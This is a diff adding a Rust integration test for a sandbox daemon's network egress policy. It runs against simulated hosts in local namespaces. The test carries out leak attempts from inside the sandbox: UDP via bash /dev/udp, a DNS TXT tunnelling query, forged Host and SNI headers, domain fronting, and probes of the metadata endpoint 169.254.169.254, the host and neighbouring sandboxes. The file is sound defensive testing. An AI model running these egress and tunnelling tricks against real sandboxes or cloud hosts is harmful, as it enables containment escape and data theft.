@@ -1,0 +1,357 @@
+//! Privileged: network egress policy, proven against a simulated internet built of
+//! this test's own network namespaces (see `net_world/`). No traffic leaves them.
+//!
+//! Run: `cargo test -p sandlot --no-default-features --test net_egress` (root).
+
+mod net_world;
+
+use std::time::{Duration, Instant};
+
+use net_world::{addr_of, rt, NetDaemon, World, DNS_ADDR, HOST_ADDR};
+use sandlot_client::{Client, CreateSandbox};
+use serde_json::{json, Value};
+
+struct Out {
+    code: i32,
+    stdout: String,
+    stderr: String,
+}
+
+async fn sh(c: &Client, id: &str, script: &str) -> Out {
+    let o = c.run(id, &["/bin/sh", "-c", script]).await.unwrap();
+    Out {
+        code: o.exit.code.unwrap_or(-1),
+        stdout: String::from_utf8_lossy(&o.stdout).into_owned(),
+        stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
+    }
+}
+
+async fn create(c: &Client, network: Value, world: &World) -> String {
+    let mut spec = serde_json::Map::new();
+    spec.insert("network".into(), network);
+    let sb = c
+        .create_sandbox(&CreateSandbox {
+            spec,
+            ..Default::default()
+        })
+        .await
+        .unwrap();
+    c.write_file_bytes(&sb.id, "/tmp/ca.pem", world.ca_pem())
+        .await
+        .unwrap();
+    sb.id
+}
+
+const CURL: &str = "curl -sS -m 8 --cacert /tmp/ca.pem";
+
+/// `curl` inside the sandbox: (exit code, body).
+async fn curl(c: &Client, id: &str, args: &str) -> (i32, String) {
+    let o = sh(c, id, &format!("{CURL} {args}")).await;
+    (o.code, format!("{}{}", o.stdout, o.stderr))
+}
+
+/// A UDP datagram via bash's /dev/udp.
+async fn udp(c: &Client, id: &str, ip: &str) {
+    sh(
+        c,
+        id,
+        &format!("bash -c 'echo leak > /dev/udp/{ip}/9999' 2>/dev/null; true"),
+    )
+    .await;
+}
+
+/// A DNS TXT query for `name` sent straight to `server` (a DNS tunnel's shape),
+/// with the answer's rcode printed.
+async fn dns_txt(c: &Client, id: &str, server: &str, name: &str) -> String {
+    let py = format!(
+        r#"
+import socket, struct
+q = struct.pack('>HHHHHH', 0x4242, 0x0100, 1, 0, 0, 0)
+for l in '{name}'.split('.'):
+    q += bytes([len(l)]) + l.encode()
+q += b'\x00' + struct.pack('>HH', 16, 1)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(5)
+s.sendto(q, ('{server}', 53))
+r = s.recv(4096)
+print('rcode', r[3] & 15, 'answers', struct.unpack('>H', r[6:8])[0])
+"#
+    );
+    let o = sh(
+        c,
+        id,
+        &format!("python3 -c \"{}\"", py.replace('"', "\\\"")),
+    )
+    .await;
+    format!("{}{}", o.stdout, o.stderr)
+}
+
+fn server_of(body: &str) -> Option<&str> {
+    body.split_whitespace()
+        .find_map(|w| w.strip_prefix("server="))
+}
+
+/// Asserts the daemon left nothing: no slot namespaces, links or nft table.
+fn assert_clean(world: &World, d: &NetDaemon) {
+    let deadline = Instant::now() + Duration::from_secs(10);
+    loop {
+        let ns = d.slot_namespaces();
+        let links = world.host_links();
+        let tables = world.host_tables();
+        if ns.is_empty() && links.is_empty() && !tables.contains("sandlot_") {
+            return;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "left behind: netns {ns:?}, links {links:?}, tables {tables:?}\n{}",
+            d.log()
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+#[test]
+fn allow_policy_holds_by_name_address_and_protocol() {
+    let world = World::new();
+    let mut d = NetDaemon::start(&world, "");
+    let rt = rt();
+    let c = d.client();
+    rt.block_on(async {
+        // Bad rules are refused, naming the field.
+        let mut spec = serde_json::Map::new();
+        spec.insert(
+            "network".into(),
+            json!({"mode": "allow", "allow": [{"domain": "a.test"}, {"cidr": "10.99.1.0/24"}, {"domain": "*.com"}]}),
+        );
+        let e = c
+            .create_sandbox(&CreateSandbox { spec, ..Default::default() })
+            .await
+            .unwrap_err();
+        assert_eq!(e.status().map(|s| s.as_u16()), Some(400), "{e}");
+        assert!(e.to_string().contains("network.allow[2].domain"), "{e}");
+        let mut spec = serde_json::Map::new();
+        spec.insert(
+            "network".into(),
+            json!({"mode": "allow", "allow": [{"cidr": "169.254.169.254"}]}),
+        );
+        let e = c
+            .create_sandbox(&CreateSandbox { spec, ..Default::default() })
+            .await
+            .unwrap_err();
+        assert!(e.to_string().contains("network.allow[0].cidr"), "{e}");
+
+        let id = create(
+            &c,
+            json!({"mode": "allow", "allow": [
+                {"domain": "allowed.test"},
+                {"domain": "*.wild.test", "ports": [80]},
+            ]}),
+            &world,
+        )
+        .await;
+
+        // The allowed name, over HTTP and HTTPS (certificate checked).
+        let (code, body) = curl(&c, &id, "http://allowed.test/").await;
+        assert_eq!((code, server_of(&body)), (0, Some("allowed.test")), "{body}");
+        let (code, body) = curl(&c, &id, "https://allowed.test/").await;
+        assert_eq!((code, server_of(&body)), (0, Some("allowed.test")), "{body}");
+
+        // The denied name: by name (no DNS answer), by raw IP, with a forged Host,
+        // with a forged SNI.
+        let (code, body) = curl(&c, &id, "http://denied.test/").await;
+        assert_eq!(code, 6, "name must not resolve: {body}");
+        let denied_ip = addr_of("denied.test");
+        let (code, body) = curl(&c, &id, &format!("http://{denied_ip}/")).await;
+        assert_ne!(code, 0, "raw IP: {body}");
+        let (code, body) = curl(&c, &id, &format!("-H 'Host: denied.test' http://{}/", addr_of("allowed.test"))).await;
+        assert_ne!(code, 0, "forged Host: {body}");
+        let (code, body) = curl(&c, &id, &format!("--resolve denied.test:443:{} https://denied.test/", addr_of("allowed.test"))).await;
+        assert_ne!(code, 0, "forged SNI: {body}");
+        let (code, body) = curl(&c, &id, &format!("--resolve denied.test:80:{denied_ip} http://denied.test/")).await;
+        assert_ne!(code, 0, "own DNS answer for the denied name: {body}");
+        // Faked DNS for an allowed name: the proxy resolves the name itself.
+        let (code, body) = curl(&c, &id, &format!("--resolve allowed.test:80:{denied_ip} http://allowed.test/")).await;
+        assert_eq!((code, server_of(&body)), (0, Some("allowed.test")), "faked DNS: {body}");
+        // Fronting inside TLS reaches the allowed name's server only.
+        let (code, body) = curl(&c, &id, "-H 'Host: denied.test' https://allowed.test/").await;
+        assert_eq!((code, server_of(&body)), (0, Some("allowed.test")), "fronting: {body}");
+        // UDP, IPv6, DNS tunnelling.
+        udp(&c, &id, denied_ip).await;
+        udp(&c, &id, addr_of("allowed.test")).await;
+        let (code, body) = curl(&c, &id, "-6 'http://[fd00:ec2::254]/'").await;
+        assert_ne!(code, 0, "IPv6: {body}");
+        let v6 = sh(&c, &id, "cat /proc/net/if_inet6 2>/dev/null | wc -l").await;
+        assert_eq!(v6.stdout.trim(), "0", "no IPv6 address in the sandbox");
+        let t = dns_txt(&c, &id, DNS_ADDR, "c2VjcmV0.tunnel.denied.test").await;
+        assert!(t.contains("rcode 3 answers 0"), "tunnel query must be NXDOMAIN: {t}");
+        let t = dns_txt(&c, &id, "10.99.1.20", "c2VjcmV0.tunnel.denied.test").await;
+        assert!(t.contains("rcode 3 answers 0"), "to any server: {t}");
+
+        // Wildcards: subdomains on port 80 only; not the apex or lookalikes.
+        let (code, body) = curl(&c, &id, "http://a.wild.test/").await;
+        assert_eq!((code, server_of(&body)), (0, Some("a.wild.test")), "{body}");
+        let (code, body) = curl(&c, &id, "http://b.a.wild.test/").await;
+        assert_eq!((code, server_of(&body)), (0, Some("b.a.wild.test")), "{body}");
+        let (code, _) = curl(&c, &id, "https://a.wild.test/").await;
+        assert_ne!(code, 0, "port 443 is not in the wildcard rule");
+        for n in ["wild.test", "notwild.test"] {
+            let (code, body) = curl(&c, &id, &format!("http://{n}/")).await;
+            assert_eq!(code, 6, "{n}: {body}");
+        }
+
+        // Root inside cannot change the network: no CAP_NET_ADMIN over the netns.
+        let o = sh(&c, &id, "ip route del default 2>&1; ip addr add 10.99.1.99/16 dev eth0 2>&1; echo end").await;
+        assert!(o.stdout.contains("Operation not permitted") || o.stdout.contains("not found"), "{}", o.stdout);
+        let r = sh(&c, &id, "cat /proc/net/route").await;
+        assert!(r.stdout.contains("00000000"), "default route still there: {}", r.stdout);
+        let low = sh(&c, &id, "cat /proc/sys/net/ipv4/ip_unprivileged_port_start").await;
+        assert_eq!(low.stdout.trim(), "0", "ports below 1024 can be bound");
+
+        // Live policy change: now only denied.test.
+        let v = c
+            .set_network(&id, &json!({"mode": "allow", "allow": [{"domain": "denied.test"}]}))
+            .await
+            .unwrap();
+        assert_eq!(v["allow"][0]["domain"], "denied.test");
+        let (code, body) = curl(&c, &id, "http://denied.test/").await;
+        assert_eq!((code, server_of(&body)), (0, Some("denied.test")), "{body}");
+        let (code, _) = curl(&c, &id, "http://allowed.test/").await;
+        assert_ne!(code, 0, "allowed.test is no longer allowed");
+        let e = c
+            .set_network(&id, &json!({"mode": "allow", "allow": [{"domain": "Bad Name"}]}))
+            .await
+            .unwrap_err();
+        assert!(e.to_string().contains("network.allow[0].domain"), "{e}");
+
+        // The audit log has each attempt, with decisions and bytes.
+        let log = c.network_log(&id, None, None).await.unwrap().entries;
+        let has = |kind: &str, name: &str, decision: &str| {
+            log.iter().any(|e| e.kind == kind && e.name.as_deref() == Some(name) && e.decision == decision)
+        };
+        assert!(has("dns", "allowed.test", "allowed"));
+        assert!(has("dns", "denied.test", "denied"));
+        assert!(has("dns", "c2vjcmv0.tunnel.denied.test", "denied"));
+        assert!(has("tcp", "allowed.test", "allowed"));
+        assert!(has("tcp", "denied.test", "denied"), "forged Host/SNI denied by name");
+        assert!(has("tcp", "denied.test", "allowed"), "after the policy change");
+        assert!(log.iter().any(|e| e.kind == "tcp"
+            && e.name.as_deref() == Some(denied_ip)
+            && e.decision == "denied"));
+        let ok = log.iter().find(|e| e.kind == "tcp" && e.decision == "allowed").unwrap();
+        assert!(ok.bytes_out > 0 && ok.bytes_in > 0, "{ok:?}");
+        // And the CLI shows it.
+        let (code, out, err) = d.cli(&["net", "log", &id, "--denied"]);
+        assert_eq!(code, 0, "{err}");
+        assert!(out.contains("denied.test") && out.contains("DECISION"), "{out}");
+    });
+
+    // What reached the world: never the denied server before the policy change,
+    // never a UDP datagram, never a tunnelled query.
+    let http = world.log("http");
+    let denied_hits: Vec<_> = http
+        .iter()
+        .filter(|l| l.contains(" denied.test "))
+        .collect();
+    assert_eq!(
+        denied_hits.len(),
+        1,
+        "only the request after the policy change: {http:?}"
+    );
+    assert!(
+        world.log("udp").is_empty(),
+        "UDP leaked: {:?}",
+        world.log("udp")
+    );
+    let dns = world.log("dns");
+    assert!(
+        !dns.iter().any(|l| l.contains("tunnel")),
+        "tunnel query leaked: {dns:?}"
+    );
+    assert!(
+        !dns.iter()
+            .any(|l| l.starts_with("wild.test") || l.starts_with("notwild.test")),
+        "{dns:?}"
+    );
+
+    d.stop(&rt);
+    assert_clean(&world, &d);
+}
+
+#[test]
+fn none_has_no_route_and_open_stays_off_the_host_and_neighbours() {
+    let world = World::new();
+    let mut d = NetDaemon::start(&world, "");
+    let rt = rt();
+    let c = d.client();
+    rt.block_on(async {
+        let none = create(&c, json!({"mode": "none"}), &world).await;
+        let r = sh(
+            &c,
+            &none,
+            "tail -n +2 /proc/net/route | wc -l; cat /proc/net/dev",
+        )
+        .await;
+        assert!(r.stdout.starts_with('0'), "no routes at all: {}", r.stdout);
+        assert!(!r.stdout.contains("eth0"), "{}", r.stdout);
+        let (code, body) = curl(&c, &none, &format!("http://{}/", addr_of("allowed.test"))).await;
+        assert_eq!(code, 7, "network unreachable: {body}");
+        let e = c
+            .set_network(&none, &json!({"mode": "open"}))
+            .await
+            .unwrap_err();
+        assert_eq!(e.status().map(|s| s.as_u16()), Some(409), "{e}");
+
+        let open = create(&c, json!({"mode": "open"}), &world).await;
+        let other = create(&c, json!({"mode": "open"}), &world).await;
+        let (code, body) = curl(&c, &open, "http://allowed.test/").await;
+        assert_eq!(
+            (code, server_of(&body)),
+            (0, Some("allowed.test")),
+            "{body}"
+        );
+        let (code, body) = curl(&c, &open, "https://denied.test/").await;
+        assert_eq!((code, server_of(&body)), (0, Some("denied.test")), "{body}");
+        let other_ip = sh(
+            &c,
+            &other,
+            "cat /etc/resolv.conf; ip -4 -o addr show dev eth0",
+        )
+        .await;
+        let other_addr = other_ip
+            .stdout
+            .split_whitespace()
+            .find_map(|w| w.strip_suffix("/30"))
+            .expect("other sandbox address")
+            .to_string();
+        let gw = sh(&c, &open, "awk '/nameserver/ {print $2}' /etc/resolv.conf").await;
+        let gw = gw.stdout.trim().to_string();
+        for (what, target) in [
+            ("the host", format!("{HOST_ADDR}:22")),
+            ("the daemon", d.listen.clone()),
+            ("the slot gateway", format!("{gw}:7990")),
+            ("another sandbox", format!("{other_addr}:80")),
+            ("metadata", "169.254.169.254:80".to_string()),
+            ("a private range not allowed", "10.99.0.2:80".to_string()),
+        ] {
+            let (code, body) = curl(&c, &open, &format!("http://{target}/")).await;
+            assert_ne!(code, 0, "{what} ({target}) must be unreachable: {body}");
+        }
+        let log = c.network_log(&open, None, None).await.unwrap().entries;
+        for a in [
+            HOST_ADDR,
+            "169.254.169.254",
+            other_addr.as_str(),
+            gw.as_str(),
+        ] {
+            assert!(
+                log.iter()
+                    .any(|e| e.addr.as_deref() == Some(a) && e.decision == "denied"),
+                "{a} not logged as denied: {log:#?}"
+            );
+        }
+        udp(&c, &open, addr_of("allowed.test")).await;
+    });
+    assert!(world.log("udp").is_empty(), "UDP leaked in open mode");
+    d.stop(&rt);
+    assert_clean(&world, &d);
+}
